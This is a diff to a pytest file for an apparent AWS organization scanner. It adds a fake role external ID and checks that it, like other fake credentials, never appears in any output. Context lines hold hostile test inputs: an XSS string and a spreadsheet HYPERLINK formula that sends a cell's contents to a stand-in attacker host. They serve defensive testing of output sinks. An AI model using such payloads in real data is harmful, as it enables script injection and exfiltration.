@@ -50,6 +50,8 @@ class ScannedRun:
         return self.output_dir / os.readlink(self.output_dir / "latest")
 
 
+#: The external id of the scan role: it protects the role, so no output repeats it.
+EXTERNAL_ID = "orgscan-external-id-NEVER-WRITE-ME"
 #: Text AWS accepts in names and messages, each aimed at one kind of sink.
 XSS = "<script>alert('xss')</script><img src=x onerror=alert(1)>&amp;"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -102,7 +104,7 @@ def _signature_mismatch(request: Any) -> str:
 def scanned_run(demo_world: DemoWorld, tmp_path_factory: pytest.TempPathFactory) -> ScannedRun:
     output_dir = tmp_path_factory.mktemp("full-run") / "reports"
     settings = demo_world.settings(output_dir=str(output_dir), log_level="DEBUG",
-                                   exclude_accounts=[])
+                                   exclude_accounts=[], external_id=EXTERNAL_ID)
     calls = _hostile_aws(demo_world)
     terminal = io.StringIO()
     with contextlib.redirect_stdout(terminal), contextlib.redirect_stderr(terminal):
@@ -111,7 +113,10 @@ def scanned_run(demo_world: DemoWorld, tmp_path_factory: pytest.TempPathFactory)
 
 
 def test_no_credential_in_any_output(scanned_run: ScannedRun) -> None:
-    secrets = [*FAKE_CREDENTIALS.values(), *scanned_run.calls.issued_secrets]
+    secrets = [*FAKE_CREDENTIALS.values(), *scanned_run.calls.issued_secrets, EXTERNAL_ID]
+    # The external id did reach AssumeRole (it guards the role, so it is kept out of outputs).
+    assert {call.params.get("ExternalId") for call in scanned_run.calls.calls
+            if call.operation == "AssumeRole"} == {EXTERNAL_ID}
     # The role was assumed in every member account: their keys and tokens are checked too.
     assert len(scanned_run.calls.issued_secrets) >= 3 * 10
     files = [path for path in scanned_run.output_dir.rglob("*") if path.is_file()]
